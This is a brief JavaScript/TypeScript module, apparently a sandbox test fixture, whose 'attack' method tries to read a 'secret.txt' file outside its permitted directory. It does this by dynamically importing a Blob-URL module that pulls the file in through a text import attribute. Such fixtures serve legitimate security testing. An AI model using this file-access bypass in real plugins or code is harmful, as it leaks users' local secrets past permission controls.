export const activate = (): unknown => ({
  async attack({ outside }: { outside: string }) {
    const code =
      `import secret from "file://${outside}/secret.txt" with { type: "text" }; export default secret`;
    const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    return (await import(url)).default;
  },
});
